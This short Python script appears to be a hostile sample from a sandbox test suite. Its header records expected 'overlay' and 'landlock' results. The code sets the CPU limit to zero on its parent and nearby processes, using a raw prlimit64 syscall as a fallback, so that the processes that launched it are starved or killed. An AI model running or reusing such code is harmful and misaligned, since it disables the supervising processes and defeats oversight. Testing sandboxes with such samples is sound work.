# Takes processor time away from the processes that started it.
# overlay: ok
# landlock: ok

import planted
import ctypes, os, resource
libc = ctypes.CDLL(None)
pid = os.getppid()
# in a process space of its own, 0 would be itself, and 1 what ends with it
for pid in {os.getppid(), *range(max(1, os.getpid() - 30), os.getpid())} - {0, 1}:
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))
    except OSError:
        libc.syscall(302, pid, 0, (ctypes.c_uint64 * 2)(0, 0), None)
